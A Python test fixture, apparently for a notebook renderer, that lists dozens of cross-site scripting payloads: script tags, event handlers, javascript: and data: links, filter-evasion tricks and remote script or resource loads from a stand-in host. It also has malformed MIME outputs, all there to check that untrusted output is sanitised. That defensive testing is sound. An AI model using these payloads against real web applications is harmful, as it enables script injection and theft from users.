"""Outputs of notebooks that try to run a script, fetch something, or leave their place: each kind by itself.

Each payload marks the page as ``pwned`` when it runs, and asks `AWAY` when it fetches.
"""

from __future__ import annotations

import base64
from typing import Any

from socdialog.display.notebook_parts import MIME

JS = "document.documentElement.dataset.pwned=1"
AWAY = "http://away.invalid/x"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'
_CODED = base64.b64encode(_SVG.encode()).decode()

#: HTML that a browser would run or fetch, in as many ways as there are kinds.
MARKUP = {
    "script": f"<script>{JS}</script>",
    "script from away": f'<script src="{AWAY}.js"></script>',
    "script of a module": f'<script type="module">{JS}</script>',
    "script in a drawing": f"<svg><script>{JS}</script></svg>",
    "script in capitals": f"<ScRiPt>{JS}</sCrIpT>",
    "script in pieces": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "script after a null": f"<scr\0ipt>{JS}</scr\0ipt>",
    "broken picture": f'<img src=x onerror="{JS}">',
    "broken picture without blanks": f"<img/src=x/onerror={JS}>",
    "drawing that loads": f"<svg onload={JS}>",
    "body that loads": f"<body onload={JS}>",
    "details that open": f"<details open ontoggle={JS}>x</details>",
    "input with focus": f"<input autofocus onfocus={JS}>",
    "video": f"<video src=x onerror={JS}></video>",
    "audio": f"<audio src=x onerror={JS}></audio>",
    "marquee": f"<marquee onstart={JS}>x</marquee>",
    "frame": f'<iframe src="javascript:{JS}"></iframe>',
    "frame of its own": f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "object": f'<object data="javascript:{JS}"></object>',
    "embedded": f'<embed src="javascript:{JS}">',
    "link": f'<a href="javascript:{JS}" autofocus>x</a>',
    "link with a tab": f'<a href="java\tscript:{JS}">x</a>',
    "link with an entity": f'<a href="java&#115;cript:{JS}">x</a>',
    "link of data": f'<a href="data:text/html,<script>{JS}</script>">x</a>',
    "link in a drawing": f'<svg><a xlink:href="javascript:{JS}"><text>x</text></a></svg>',
    "animation": f'<svg><animate attributeName=href values="javascript:{JS}" onbegin={JS}></svg>',
    "use of data": f'<svg><use href="data:image/svg+xml;base64,{_CODED}#x"/></svg>',
    "foreign object": f'<svg><foreignObject><img src=x onerror="{JS}"></foreignObject></svg>',
    "formula": f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}"></style></mglyph></table></mtext></math>',
    "title in a style": f'<style><!--</style><img title="--><img src=x onerror={JS}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "template": f"<template><img src=x onerror={JS}></template>",
    "textarea": f"<textarea></textarea><img src=x onerror={JS}>",
    "comment": f"<!--><img src=x onerror={JS}>-->",
    "conditional comment": f"<!--[if true]><script>{JS}</script><![endif]-->",
    "character data": f"<![CDATA[<script>{JS}</script>]]>",
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "refresh away": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}">',
    "sheet from away": f'<link rel="stylesheet" href="{AWAY}.css">',
    "preload": f'<link rel="preload" as="script" href="{AWAY}.js">',
    "style": f"<style>@import '{AWAY}.css'; body {{ background: url({AWAY}.png) }}</style>",
    "style of an element": f'<p style="background:url({AWAY}.png)">x</p>',
    "picture from away": f'<img src="{AWAY}.png" alt="x">',
    "picture set from away": f'<img srcset="{AWAY}.png 1x" alt="x">',
    "drawing from away": f'<svg><image href="{AWAY}.png"/></svg>',
    "form": f'<form action="{AWAY}"><button formaction="javascript:{JS}" autofocus>x</button></form>',
    "end of the page": f"</section></main></body></html><script>{JS}</script>",
    "dialog over the page": '<dialog open style="position:fixed;inset:0">x</dialog>',
    "id of ours": '<p id="sd-main">x</p><section id="summary"><h2>x</h2></section>',
}
_HOSTILE = f"<script>{JS}</script><img src=x onerror={JS}>"


def _section(**changed: Any) -> dict[str, Any]:
    section = {"key": "a", "title": _HOSTILE, "parts": [{"spans": [_HOSTILE]}]} | changed
    return {MIME: {"sections": [section]}}


def _figure(chart: dict[str, Any]) -> dict[str, Any]:
    shown = {"key": "t", "caption": "c", "columns": [{"heading": "h"}], "rows": [["x"]]}
    return _section(parts=[{"key": "f", "chart": chart, "caption": ["words"], "table": shown}])


_BARS = {
    "mark": "bar",
    "data": {"values": [{"a": _HOSTILE, "b": 1}]},
    "encoding": {"x": {"field": "a", "type": "nominal"}},
}
#: Outputs that are no HTML.
DATA: dict[str, dict[str, Any]] = {
    "text": {"text/plain": _HOSTILE},
    "markdown": {"text/markdown": f"# x\n\n{_HOSTILE}\n\n[x](javascript:{JS}) ![x]({AWAY}.png)"},
    "drawing": {"image/svg+xml": _SVG},
    "picture that is none": {"image/png": f'"><script>{JS}</script>'},
    "picture of another kind": {f'image/png" onerror="{JS}': "aGVsbG8="},
    "script as an output": {"application/javascript": JS},
    "chart with data from away": {"application/vnd.vegalite.v5+json": _BARS | {"data": {"url": f"{AWAY}.json"}}},
    "chart with pictures": {
        "application/vnd.vegalite.v5+json": _BARS | {"mark": {"type": "image", "url": f"{AWAY}.png"}}
    },
    "chart with hostile labels": {"application/vnd.vegalite.v5+json": _BARS | {"title": _HOSTILE}},
    "part with hostile words": _section(),
    "part with a hostile key": _section(key='a"><script>'),
    "part with markup": _section(html=_HOSTILE),
    "part with a chart of links": _figure(_BARS | {"encoding": {"href": {"value": f"javascript:{JS}"}}}),
    "part with a chart of hostile words": _figure(_BARS | {"title": _HOSTILE}),
    "part with a hostile address": {
        MIME: {
            "sections": [{"key": "a", "title": "A", "parts": [{"spans": [{"text": "5", "evidence": ["events:1"]}]}]}],
            "given": [{"row_id": "events:1", "source_id": "s", "statement": {"table": "events", "subject": _HOSTILE}}],
            "sources": [
                {
                    "source_id": "s",
                    "publisher": _HOSTILE,
                    "title": None,
                    "url": f"javascript:{JS}",
                    "published": None,
                    "language": None,
                    "voice": "s",
                }
            ],
        }
    },
    "part with a number that is none": {
        MIME: {"sections": [{"key": "a", "title": "A", "parts": [{"spans": [float("nan")]}]}]}
    },
    "part that is a list": {MIME: [1, 2]},
}
EVERY: dict[str, dict[str, Any]] = {name: {"text/html": html} for name, html in MARKUP.items()} | DATA
